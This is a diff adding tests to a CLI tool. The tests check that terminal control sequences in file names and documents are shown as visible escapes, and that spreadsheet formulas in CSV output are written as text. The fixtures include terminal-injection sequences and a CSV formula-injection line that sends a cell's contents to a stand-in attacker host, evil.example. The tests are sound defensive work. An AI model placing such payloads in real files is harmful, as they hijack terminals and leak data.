@@ -1,6 +1,7 @@
 // What the CLI's output formats write when documents and file names hold what a terminal, an XML
 // parser, a URI resolver or a spreadsheet would read as something else.
 import { strict as assert } from 'node:assert';
+import * as fs from 'node:fs';
 import * as path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import type { Finding } from '../../server/src/engine';
@@ -101,3 +102,33 @@ function assertWellFormedXml(xml: string): void {
   }
   assert.doesNotMatch(xml.replace(/<[^>]*>/g, ''), /<|&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[0-9a-f]+);)/i);
 }
+
+describe('clause-guide output: text a terminal would run', () => {
+  it('check writes control and bidi characters from documents and file names as visible escapes', () => {
+    const root = workspace({ '.clause-guide.yaml': quiet, 'tm\u001b[31m.yaml': quoting(`9.9${HOSTILE}\u2066\n`) });
+    const { stdout, stderr } = cli(['check'], root);
+    assert.doesNotMatch(stdout + stderr, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, 'no raw control characters');
+    assert.match(stdout, /^tm\\u001b\[31m\.yaml:2:\d+: error unknown-clause: .*9\.9\\u001b\[2J\\u001b\]0;pwned\\u0007\\u202eevil\\u0000\\u0085\\u2066\\n/m);
+    assert.equal(stdout.trimEnd().split('\n').length, 2, 'one line per finding, then the summary');
+  });
+
+  it('the file name of an unread file is escaped on stderr', () => {
+    const root = workspace({ '.clause-guide.yaml': quiet });
+    fs.writeFileSync(path.join(root, 'x\u001b]0;t\u0007.yaml'), Buffer.from([0, 1, 2]));
+    const { stderr } = cli(['check'], root);
+    assert.match(stderr, /cannot read x\\u001b\]0;t\\u0007\.yaml: binary/);
+    assert.doesNotMatch(stderr, /[\u0000-\u0009\u000b-\u001f]/);
+  });
+});
+
+describe('clause-guide output: CSV a spreadsheet would run', () => {
+  it('matrix --format csv writes =HYPERLINK(…) from a document as text, not a formula', () => {
+    const root = workspace({
+      '.clause-guide.yaml': quiet,
+      'req.yaml': 'kind: security-requirements\nrequirements:\n  - id: SR-1\n    text: \'=HYPERLINK("http://evil.example/?leak="&A1,"Click")\'\n    phase: operation\n',
+    });
+    const { stdout } = cli(['matrix', '--format', 'csv'], root);
+    const row = stdout.split('\r\n')[1];
+    assert.equal(row, `SR-1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",operation,,,,,`);
+  });
+});
